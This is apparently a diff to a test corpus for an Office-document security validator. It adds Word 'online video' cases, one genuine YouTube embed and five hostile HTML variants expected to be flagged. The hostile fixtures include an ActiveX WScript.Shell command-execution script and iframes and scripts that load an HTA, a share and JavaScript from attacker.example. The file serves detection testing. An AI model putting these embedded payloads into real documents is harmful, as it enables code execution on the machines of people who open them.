@@ -5,6 +5,8 @@ import type { FindingCode } from '../../../shared/validation/inspect.ts';
 import {
   activeX,
   PAGE_BACKGROUND,
+  onlineVideo,
+  YOUTUBE_EMBED,
   drawingShape,
   sheetLoading,
   activeXByContentType,
@@ -1198,6 +1200,7 @@ const officeItems: CorpusItem[] = [
   ...fetchedRelationshipOfficeItems(),
   ...sheetLoadingOfficeItems(),
   ...drawingShapeOfficeItems(),
+  ...onlineVideoOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -3014,6 +3017,13 @@ export const ACTIVE_GENUINE: readonly {
     declared: 'xlsx',
     bytes: () => drawingShape('macro="" textlink=""'),
   },
+  {
+    id: 'docx-online-video-youtube',
+    declared: 'docx',
+    // An online video inserted from YouTube: its iframe's address is a clicked link's warning (round 10).
+    bytes: () => onlineVideo(YOUTUBE_EMBED),
+    warning: 'EXTERNAL_LINK',
+  },
 ];
 
 /**
@@ -3517,4 +3527,21 @@ function drawingShapeOfficeItems(): CorpusItem[] {
       'OOXML_EXTERNAL',
     ),
   ];
+}
+
+/**
+ * Word's online video whose HTML, rendered by Internet Explorer's engine as the video is clicked,
+ * is not a video site's iframe (round 10): a script, a `javascript:` or a share's frame. Each was
+ * VALID without a warning.
+ */
+function onlineVideoOfficeItems(): CorpusItem[] {
+  return Object.entries({
+    script: '<script>new ActiveXObject("WScript.Shell").Run("calc")</script>',
+    'javascript-frame': '<iframe SRC="javascript:location=\'https://attacker.example/x.hta\'"></iframe>',
+    'share-frame': '<iframe src="\\\\attacker.example\\share\\v.html"></iframe>',
+    'frame-with-handler': '<iframe src="https://www.youtube.com/embed/x" onload="document.write(1)"></iframe>',
+    'frame-then-script': `${YOUTUBE_EMBED}<script src="https://attacker.example/x.js"></script>`,
+  }).map(([what, html]) =>
+    item(`docx-online-video-${what}`, 'OOXML external', () => onlineVideo(html), 'OOXML_EXTERNAL'),
+  );
 }
